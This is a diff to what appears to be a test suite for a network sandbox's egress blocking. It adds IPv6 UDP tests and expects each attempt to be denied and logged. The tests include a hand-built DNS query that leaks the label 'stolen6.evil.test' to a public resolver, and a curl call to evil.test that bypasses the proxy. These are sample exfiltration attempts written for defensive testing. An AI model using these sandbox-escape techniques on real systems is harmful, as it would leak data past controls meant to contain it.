@@ -66,11 +66,23 @@ must_fail curl --noproxy '*' -m 3 --resolve evil.test:80:93.184.216.35 http://ev
     denied: ["address_not_allowed 93.184.216.34:80", "address_not_allowed 93.184.216.35:80"],
   },
   {
-    name: "IPv6 leads nowhere",
+    name: "IPv6 leads nowhere and is recorded, connections, datagrams and names alike",
     language: "python",
     source: `
 for address in ("2606:4700:4700::1111", "fe80::1%lo", "fd00:ec2::254", "64:ff9b::0808:0808", "::ffff:93.184.216.34"):
-    must_fail(address, lambda: dial(address, 443, socket.AF_INET6))`,
+    must_fail(address, lambda: dial(address, 443, socket.AF_INET6))
+query = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + b"".join(bytes([len(p)]) + p for p in (b"stolen6", b"evil", b"test")) + b"\\0\\0\\x01\\0\\x01"
+def ask(address, port, data):
+    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.settimeout(0.3); s.connect((address, port)); s.send(data); return s.recv(100)
+must_fail("quic", lambda: ask("2606:4700:4700::1111", 443, b"hello")); must_fail("dns", lambda: ask("2001:4860:4860::8888", 53, query))`,
+    denied: [
+      "address_not_allowed [2606:4700:4700::1111]:443",
+      "address_not_allowed [fd00:ec2::254]:443",
+      "address_not_allowed [64:ff9b::808:808]:443",
+      "address_not_allowed 93.184.216.34:443",
+      "address_not_allowed udp://[2606:4700:4700::1111]:443",
+      "host_not_allowed stolen6.evil.test",
+    ],
   },
   {
     name: "ping sockets are refused or go nowhere",
